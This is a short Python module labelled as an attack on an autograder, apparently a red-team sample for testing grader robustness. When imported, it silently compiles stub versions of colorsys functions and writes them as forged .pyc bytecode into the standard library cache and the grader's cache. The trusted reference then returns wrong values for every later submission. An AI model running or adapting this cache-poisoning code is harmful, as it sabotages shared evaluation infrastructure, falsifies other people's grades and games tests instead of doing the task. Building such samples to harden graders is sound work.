"""Attack: poison the compiled bytecode of colorsys (the tests' trusted reference) in the grader's bytecode cache (@@PYCACHE@@) and next to the standard library: for every classmate graded later, the reference gives the stub's answer."""

from .attack_common import HueCycleSystem as HueCycleSystem, hsv_to_rgb as hsv_to_rgb  # the shared parts: _common.py


def _poison():
    import colorsys
    import importlib.util
    import os
    from importlib._bootstrap_external import _code_to_timestamp_pyc
    source = colorsys.__file__
    st = os.stat(source)
    code = compile("def hsv_to_rgb(h, s, v):\n    return (0.123, 0.456, 0.789)\n"
                   "def rgb_to_hsv(r, g, b):\n    return (0.0, 0.0, 0.0)\n", source, "exec")
    data = _code_to_timestamp_pyc(code, st.st_mtime, st.st_size)
    cached = importlib.util.cache_from_source(source)  # <stdlib>/__pycache__/colorsys.cpython-3x.pyc
    prefixed = "@@PYCACHE@@" + os.path.join(os.path.dirname(source), os.path.basename(cached))
    for path in (cached, prefixed):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as f:
                f.write(data)
        except OSError:
            pass


_poison()
